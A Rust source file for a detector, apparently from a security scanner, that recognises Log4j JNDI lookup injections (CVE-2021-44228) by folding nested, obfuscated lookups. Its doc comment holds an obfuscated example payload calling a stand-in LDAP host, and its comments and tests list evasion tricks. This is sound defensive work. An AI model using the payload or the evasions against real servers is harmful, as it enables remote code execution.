//! JNDI lookups of Log4j.
//!
//! # What it detects
//! `${jndi:…}` wherever a value may be logged, after the nested lookups of Log4j have been folded the way Log4j folds them.
//!
//! # Why it matters
//! Log4j 2 before 2.15 fetches and runs a class from the address in the lookup (CVE-2021-44228).
//!
//! # Example
//! `${${lower:j}nd${::-i}:ldap://evil.example/a}`
//!
//! # Known false positives
//! Articles that quote the lookup in full.
//!
//! # Evasions covered
//! `lower`, `upper` (with the dotless i), defaults (`${::-j}`, `${env:X:-j}`), `date` with quotes, `base64`, nesting, missing ends,
//! and every decoder of the chain.
//!
//! # References
//! CVE-2021-44228; Apache Log4j 2 manual, "Lookups"; CWE-917.

use crate::{
    Class, Detector, Fact, FactKind, Gate, Input, Scratch, Signal, Sink,
    bytes::{contains_ignore_case, find_ignore_case},
};

pub(super) static DETECTOR: Detector =
    Detector { signal: Signal::Log4jJndi, name: "log4j_jndi", version: 1, gate: Gate::With(&[Class::Dollar], gate), run };

static LOOKUP: Fact = Fact::new("a JNDI lookup", FactKind::Effect, 110);
static HIDDEN: Fact = Fact::new("put together from nested lookups", FactKind::Effect, 20);

/// Nested lookups that are followed; Log4j itself gives up on deep ones.
const DEPTH: usize = 64;
/// Folded bytes of one lookup that are kept: enough to see what it is.
const LENGTH: usize = 160;

fn gate(input: &Input<'_>) -> bool {
    input.classes.has(Class::Dollar) && input.classes.has(Class::Brace) && input.classes.has(Class::Colon)
}

/// Folds lookups with one pass and a stack: `folded` holds the open lookups' text one behind the other, and `marks`
/// where each begins, in the folded text and in the value.
fn run(input: &Input<'_>, scratch: &mut Scratch, sink: &mut Sink<'_>) {
    let bytes = input.bytes;
    let (folded, marks) = (&mut scratch.folded, &mut scratch.marks);
    folded.clear();
    marks.clear();
    let (mut at, mut nested) = (0, false);
    while let Some(&byte) = bytes.get(at) {
        if byte == b'$' && bytes.get(at + 1) == Some(&b'{') {
            if marks.len() < DEPTH {
                nested |= !marks.is_empty();
                marks.push((folded.len(), at));
            }
            at += 2;
            continue;
        }
        // A nested lookup may give the dollar sign itself; one that stands before the present lookup is not its own.
        if byte == b'{'
            && marks.len() < DEPTH
            && marks.last().is_some_and(|&(start, _)| folded.get(start..).is_some_and(|own| own.ends_with(b"$")))
        {
            folded.pop();
            nested = true;
            marks.push((folded.len(), at));
            at += 1;
            continue;
        }
        if byte == b'}'
            && let Some((start, from)) = marks.pop()
        {
            if is_jndi(folded.get(start..).unwrap_or_default()) {
                sink.report(from..at + 1, facts(nested));
                return;
            }
            resolve(folded, start);
        } else if let Some(&(start, _)) = marks.last()
            && folded.len().saturating_sub(start) < LENGTH
        {
            folded.push(byte.to_ascii_lowercase());
        }
        at += 1;
    }
    // Braces as entities that few decoders know: `$&lbrace;jndi:`.
    if let Some(at) = find_ignore_case(bytes, b"jndi:") {
        let before = bytes.get(at.saturating_sub(12)..at).unwrap_or_default();
        if contains_ignore_case(before, b"$&l") {
            sink.report(at..bytes.len(), &[&LOOKUP]);
            return;
        }
    }
    // A lookup without its end: what logs it may well add the end.
    while let Some((start, from)) = marks.pop() {
        if is_jndi(folded.get(start..).unwrap_or_default()) {
            sink.report(from..bytes.len(), facts(nested));
            return;
        }
    }
}

fn facts(nested: bool) -> &'static [&'static Fact] {
    static FACTS: [&Fact; 2] = [&LOOKUP, &HIDDEN];
    FACTS.get(..1 + usize::from(nested)).unwrap_or_default()
}

fn is_jndi(lookup: &[u8]) -> bool {
    let lookup = lookup.trim_ascii_start();
    lookup.strip_prefix(b"jndi").is_some_and(|rest| rest.trim_ascii_start().starts_with(b":"))
}

/// Puts the value of a lookup in the place of its text.
fn resolve(folded: &mut Vec<u8>, start: usize) {
    let text = folded.get(start..).unwrap_or_default();
    let value: Vec<u8> = if let Some(at) = memchr::memmem::find(text, b":-") {
        text.get(at + 2..).unwrap_or_default().to_vec()
    } else if let Some(rest) = text.strip_prefix(b"lower:").or_else(|| text.strip_prefix(b"upper:")) {
        // The dotless i is upper-cased to I.
        match rest {
            [0xc4, 0xb1] => b"i".to_vec(),
            _ => rest.to_vec(),
        }
    } else if let Some(rest) = text.strip_prefix(b"date:") {
        rest.iter().copied().filter(|&b| b != b'\'').collect()
    } else if let Some(rest) = text.strip_prefix(b"base64:") {
        // Case was folded, which base64 does not survive; that it is used to build a lookup is what matters.
        if rest.is_empty() { Vec::new() } else { b"jndi:".to_vec() }
    } else {
        Vec::new()
    };
    folded.truncate(start);
    folded.extend_from_slice(&value);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_fold() {
        let fold = |text: &str| {
            let mut folded = text.as_bytes().to_vec();
            resolve(&mut folded, 0);
            String::from_utf8(folded).unwrap()
        };
        assert_eq!(fold("::-j"), "j");
        assert_eq!(fold("env:nan:-jn"), "jn");
        assert_eq!(fold("lower:d"), "d");
        assert_eq!(fold("upper:ı"), "i");
        assert_eq!(fold("date:'i'"), "i");
        assert_eq!(fold("sys:user.name"), "");
    }
}
